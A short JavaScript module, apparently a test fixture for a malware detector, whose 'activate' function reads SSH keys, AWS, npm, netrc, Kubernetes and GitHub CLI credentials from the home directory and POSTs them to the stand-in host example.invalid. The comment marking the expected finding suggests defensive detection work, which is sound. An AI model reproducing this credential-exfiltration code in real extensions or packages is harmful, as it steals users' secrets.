require('./runner').look();
require('./picked');
require('./flat');
require('./second');
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
require('./ways');

const wanted = ['.ssh/id_rsa', '.aws/credentials', '.npmrc', '.netrc', '.kube/config', '.config/gh/hosts.yml'];

function activate() {
  const found = {};
  for (const name of wanted) {
    try {
      found[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8');
    } catch { /* not there */ }
  }
  const request = https.request('https://example.invalid/collect', { method: 'POST' });
  request.write(JSON.stringify(found));  // want "AWS keys and sessions, GitHub's command "
  request.end();
}
exports.activate = activate;
